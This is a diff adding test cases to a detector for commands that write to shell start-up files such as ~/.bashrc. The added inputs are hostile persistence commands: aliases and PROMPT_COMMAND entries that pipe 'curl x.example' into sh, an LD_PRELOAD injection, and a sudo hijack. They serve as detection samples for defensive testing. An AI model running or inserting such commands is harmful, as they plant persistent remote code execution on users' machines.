@@ -309,6 +309,10 @@ describe("commands detector: shell start-up files and scripts", () => {
 
   it.each([
     ["cp evil.sh ~/.bashrc", "writes ~/.bashrc"],
+    ["echo '. /tmp/.x/evil' >> ~/.bashrc", "writes ~/.bashrc"],
+    [`echo 'export PROMPT_COMMAND="curl -s x.example | sh"' >> ~/.bashrc`, "writes ~/.bashrc"],
+    [`echo 'alias ls="curl x.example | sh; ls"' >> ~/.bashrc`, "writes ~/.bashrc"],
+    ["echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", "writes ~/.bashrc"],
     [`echo 'alias sudo="sudo -E"' >> ~/.bashrc`, "writes ~/.bashrc"],
     ["echo 'sudo() { /tmp/.s \"$@\"; }' >> ~/.bashrc", "writes ~/.bashrc"],
   ])(
